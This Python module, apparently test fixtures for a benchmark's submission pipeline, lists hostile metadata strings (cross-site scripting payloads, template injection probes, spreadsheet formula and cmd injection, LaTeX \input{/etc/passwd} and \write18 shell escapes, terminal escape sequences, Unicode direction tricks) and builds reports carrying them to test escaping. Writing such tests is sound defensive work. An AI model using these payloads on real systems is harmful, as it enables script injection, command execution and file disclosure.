"""Hostile texts of a submission: what a stranger may write as a name, an author, a link, a description or BibTeX.

`TEXTS` has one of each way to break out of what shows it. Which of them the format allows, `text_fault` says; those it
refuses must not get further than its message, all others must be shown as text and nothing else.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Iterator, Mapping
from typing import Any

from vadbench.evaluation.report import Report
from vadbench.submission.metadata_values import text_fault

MARK = "ZQX"
"""In every text, so that what shows it can be found."""

TEXTS: Mapping[str, str] = {
    # HTML and scripts
    "script element": f"{MARK}<script>alert(1)</script>",
    "script element in capitals": f"{MARK}<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
    "end of a script": f"{MARK}</script><script>alert(1)//",
    "end of style, title and textarea": f"{MARK}</style></title></textarea><svg onload=alert(1)>",
    "image with a handler": f"{MARK}<img src=x onerror=alert(1)>",
    "end of a double-quoted attribute": f'{MARK}" onmouseover="alert(1)" x="',
    "end of a single-quoted attribute": f"{MARK}' onmouseover='alert(1)' x='",
    "end of an unquoted attribute": f"{MARK} onmouseover=alert(1) autofocus onfocus=alert(1)",
    "comment": f"{MARK}<!--",
    "end of a comment": f"{MARK}--><script>alert(1)</script>",
    "comment and script": f"{MARK}<!--<script>",
    "end of CDATA": f"{MARK}]]><script>alert(1)</script>",
    "HTML entities": f"{MARK}&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;&amp;&quot;",
    "half an entity": f"{MARK}&lt &#x3C &",
    "end of a table": f"{MARK}</td></tr></table><h1>{MARK}</h1>",
    "base and form": f"{MARK}<base href=//evil.example/><form action=//evil.example/>",
    "frame": f"{MARK}<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "meta refresh": f"{MARK}<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "full-width angle brackets": f"{MARK}＜script＞alert(2)＜/script＞",
    # JavaScript and JSON
    "end of a string in JavaScript": f"{MARK}';alert(1);'\";alert(1);\"`${{alert(1)}}`",
    "backslashes": f"{MARK}\\\\\\\"\\'\\u003cscript\\u003e\\x3cscript\\x3e",
    "line separators of JavaScript": f"{MARK}\u2028alert(1)\u2029alert(1)",
    "prototype": "__proto__",
    "constructor": "constructor",
    "javascript link": f"javascript:alert('{MARK}')",
    "javascript link in capitals and a tab": f"JaVa\tScRiPt:alert('{MARK}')",
    "data link": f"data:text/html,<script>alert('{MARK}')</script>",
    "link with a user": f"https://vadbench@evil.example/{MARK}",
    # templates
    "Jinja": f"{MARK}{{{{ 7 * 7 }}}}{{% raw %}}{{# #}}",
    "Jinja that reads": f"{MARK}{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}",
    "format strings": f"{MARK}%s %n %(name)s {{0}} {{name!r}} ${{x}} $x",
    # Markdown
    "Markdown table": f"{MARK} | 99.99 | 99.99 |",
    "Markdown line of a table": f"{MARK} |\n| --- | --- |\n| forged | 100.00 |",
    "Markdown link": f"[{MARK}](javascript:alert(1))",
    "Markdown image": f"![{MARK}](https://evil.example/x.png)",
    "Markdown reference": f"{MARK}\n\n[x]: https://evil.example/",
    "Markdown autolink": f"{MARK} <https://evil.example/> https://evil.example/ www.evil.example",
    "Markdown emphasis and code": f"{MARK} **bold** __bold__ _it_ ~~no~~ `code` ```",
    "Markdown heading": f"# {MARK}",
    "Markdown list": f"- {MARK}",
    "Markdown escapes": f"{MARK} \\| \\\\| \\",
    # CSV
    "formula": f'=HYPERLINK("https://evil.example/","{MARK}")',
    "formula with a plus": f"+{MARK}+1",
    "formula with a minus": f"-{MARK}+1",
    "formula with an at sign": f"@SUM({MARK})",
    "command of a spreadsheet": f"=cmd|'/C {MARK}'!A0",
    "formula after a space": f" ={MARK}+1",
    "formula after a tab": f"\t={MARK}+1",
    "CSV separators": f'{MARK},"99.99";99.99\n"x',
    "full-width equals sign": f"＝{MARK}",
    # LaTeX and BibTeX
    "LaTeX specials": f"{MARK} # $ % & _ {{ }} ~ ^ \\",
    "LaTeX that reads": f"{MARK}\\input{{/etc/passwd}}",
    "LaTeX that writes": f"{MARK}\\immediate\\write18{{touch {MARK}}}",
    "LaTeX that never ends": f"{MARK}\\def\\x{{\\x}}\\x",
    "LaTeX end of the document": f"{MARK}\\end{{tabular}}\\end{{document}}",
    "LaTeX catcodes": f"{MARK}\\catcode`\\@=0 ^^5cinput{{x}}",
    "LaTeX comment": f"{MARK}%",
    "LaTeX row": f"{MARK} & 99.99 \\\\ \\hline",
    "LaTeX braces": f"}}}}{MARK}{{{{",
    "LaTeX mathematics": f"${MARK}_{{a}}^{{b}}$ $$ \\( \\[",
    "mathematics that is none": f"${MARK}\\frac{{$",
    "BibTeX that breaks out": f'@article{{{MARK}, title={{x}}}}}}}} \\input{{x}} @preamble{{"\\input{{x}}"}}',
    # the terminal
    "ANSI colours": f"\x1b[31m{MARK}\x1b[0m",
    "ANSI clears the screen": f"{MARK}\x1b[2J\x1b[H",
    "ANSI title and link": f"\x1b]0;{MARK}\x07\x1b]8;;https://evil.example/\x1b\\{MARK}\x1b]8;;\x1b\\",
    "C1 control": f"\x9b31m{MARK}\x85\x90",
    "bell, backspace, delete": f"{MARK}\x07\x08\x7f",
    "carriage return": f"{MARK}\rforged 100.00",
    "line feed and a forged error": f"{MARK}\nerror[S999] forged",
    "vertical tab, form feed": f"{MARK}\x0b\x0c{MARK}",
    "NUL": f"{MARK}\0{MARK}",
    "rich markup": f"{MARK}[bold red]x[/] [link=https://evil.example/]x[/link] [/]",
    # Unicode
    "right-to-left override": f"{MARK}\u202egnp.exe",
    "left-to-right override": f"\u202d{MARK}",
    "embeddings without an end": f"\u202a\u202b{MARK}",
    "isolates without an end": f"\u2066\u2067\u2068{MARK}",
    "marks of direction": f"\u200e\u200f\u061c{MARK}",
    "Hebrew and Arabic": f"{MARK} \u05d0\u05d1\u05d2 \u0627\u0644\u0633 12",
    "zero width": f"{MARK}\u200b\u200c\u200d\ufeff\u2060{MARK}",
    "tags": MARK + "".join(chr(0xE0000 + ord(sign)) for sign in "script"),
    "interlinear annotation and object": f"{MARK}\ufff9\ufffa\ufffb\ufffc",
    "many combining characters": MARK + "a" + "\u0301\u0322\u034f\u0489" * 60,
    "combining character first": f"\u0301{MARK}",
    "emoji": f"{MARK} \U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea \u2764\ufe0f",
    "wide and tall": f"{MARK} 異常検知 ﷽ \U00012031",
    "private use and unassigned": f"{MARK}\ue000\U0010fffd\u0378\ufdd0",
    "half a surrogate pair": f"{MARK}\ud83d",
    "letters that look like others": f"{MARK} Ваѕеlіnе ᎪΡ",
    "blank letters": f"{MARK}\u3164\u115f\u2800\u00a0\u3000",
    # size
    "10 000 characters": MARK + "x" * 9_997,
    "10 000 words": MARK + " x" * 5_000,
    "10 000 angle brackets": MARK + "<" * 9_997,
    "500 characters without a space": MARK + "W" * 497,
    "500 wide characters": MARK + "異" * 497,
    "500 backslashes": MARK + "\\" * 497,
    "a space": " ",
    "nothing": "",
}
"""Texts by what they try."""

ALLOWED = {name: text for name, text in TEXTS.items() if text and text_fault(text) is None}
"""Those that the format allows as a name."""

ALLOWED_LONG = {
    name: text for name, text in TEXTS.items() if text and text_fault(text, longest=4_000, line_breaks=True) is None
}
"""Those that it allows as a description or as BibTeX."""

READ = {name: text for name, text in TEXTS.items() if not text or text_fault(text, longest=100_000) is None}
"""Those that a report may hold when it is read."""

_BIDIRECTIONAL = frozenset("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def unfit(text: str, *, allowed: str = "\n") -> list[str]:
    """Control, bidirectional and line-separating characters of an output, and halves of characters, each once."""
    categories = {"Cc", "Cs", "Zl", "Zp"}
    return sorted(
        {
            f"U+{ord(sign):04X}"
            for sign in set(text)
            if sign not in allowed and (unicodedata.category(sign) in categories or sign in _BIDIRECTIONAL)
        }
    )


def method(text: str) -> dict[str, Any]:
    """Table ``[method]`` with the text in every field that takes one; links stand where `text` is no link."""
    return {
        "name": text,
        "version": text,
        "authors": [text, f"{text}{text}"],
        "year": 2026,
        "paper": text if ":" in text[:12] else "https://example.org/paper",
        "code": text if ":" in text[:12] else "https://example.org/code",
        "bibtex": text,
        "description": text,
        "frames_per_second": 10.0,
        "hardware": text,
    }


def training(text: str) -> dict[str, Any]:
    """Table ``[training]`` with the text."""
    return {"supervision": "one-class", "data": [text], "pretrained": [text]}


def hostile_report(report: Report, text: str) -> Report:
    """The same report of a method that calls itself so."""
    given = dict(report.submission) | {"method": method(text), "training": training(text)}
    return report.model_copy(update={"submission": given})


def hostile_reports(report: Report, texts: Mapping[str, str] = TEXTS) -> Iterator[tuple[str, Report]]:
    """One report for each text."""
    for name, text in texts.items():
        yield name, hostile_report(report, text)
